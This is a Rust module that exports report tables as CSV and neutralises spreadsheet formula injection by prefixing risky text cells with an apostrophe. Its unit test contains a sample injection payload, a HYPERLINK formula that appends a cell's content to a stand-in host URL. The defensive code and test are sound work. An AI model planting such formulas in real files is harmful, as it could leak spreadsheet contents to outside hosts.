//! CSV: the layout's main sheet (its first), a header row and one row per line of it.
//! Dates are ISO text; RAG ratings are their names. UTF-8 with a byte-order mark, which
//! is how Excel knows a CSV is UTF-8 (without it, "’" and "–" arrive garbled).
//!
//! A spreadsheet opening a CSV runs a cell that begins with `=`, `+`, `-` or `@` (or a tab
//! or carriage return before one) as a formula: text from a report or a person could
//! then fetch URLs or run commands on the reader's machine. Such text cells are written
//! with a leading `'`, which spreadsheets read as "this is text" and do not show; the
//! tracker reader removes it again, so an export still reads back the same.

use crate::ReportError;
use crate::model::{Report, Table, Value};

pub fn write(report: &Report) -> Result<Vec<u8>, ReportError> {
    match report.sheets.first() {
        Some(s) => table(&s.table),
        None => Ok(Vec::new()),
    }
}

/// One table as CSV.
pub fn table(t: &Table) -> Result<Vec<u8>, ReportError> {
    let mut w = csv::Writer::from_writer(b"\xEF\xBB\xBF".to_vec());
    w.write_record(t.header.iter().map(|h| inert(h).into_owned()))?;
    for row in &t.rows {
        w.write_record(row.iter().map(|c| match c.value {
            // A number or a date is what it says ("-3" stays a number).
            Value::Number(_) | Value::Date(_) => c.text.clone(),
            Value::Text => inert(&c.text).into_owned(),
        }))?;
    }
    w.into_inner()
        .map_err(|e| ReportError::Io(std::io::Error::other(e.to_string())))
}

/// Whether a spreadsheet would take text beginning like this for a formula.
pub fn looks_like_formula(s: &str) -> bool {
    s.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// Text a spreadsheet will show, never run: a leading `'` before what looks like a formula.
pub fn inert(s: &str) -> std::borrow::Cow<'_, str> {
    if looks_like_formula(s) {
        std::borrow::Cow::Owned(format!("'{s}"))
    } else {
        std::borrow::Cow::Borrowed(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::Cell;

    #[test]
    fn formulas_are_written_as_text() {
        let t = Table {
            caption: None,
            header: vec!["=Ref".into(), "Text".into(), "Due".into()],
            rows: vec![vec![
                Cell::text("=HYPERLINK(\"http://x.example/\"&A1)"),
                Cell::text("+1 -2 @SUM(A1)"),
                Cell::number(3),
            ]],
            widths: vec![],
        };
        let out = String::from_utf8(table(&t).expect("csv")).expect("utf-8");
        for cell in ["'=Ref", "'+1 -2 @SUM(A1)", "\"'=HYPERLINK("] {
            assert!(out.contains(cell), "{cell} in {out}");
        }
        assert_eq!(inert("-"), "'-");
        assert_eq!(inert("@a"), "'@a");
        assert_eq!(inert("\tx"), "'\tx");
        assert_eq!(inert("\r=x"), "'\r=x");
        assert_eq!(inert("plain - text"), "plain - text");
        assert_eq!(inert(""), "");
    }
}
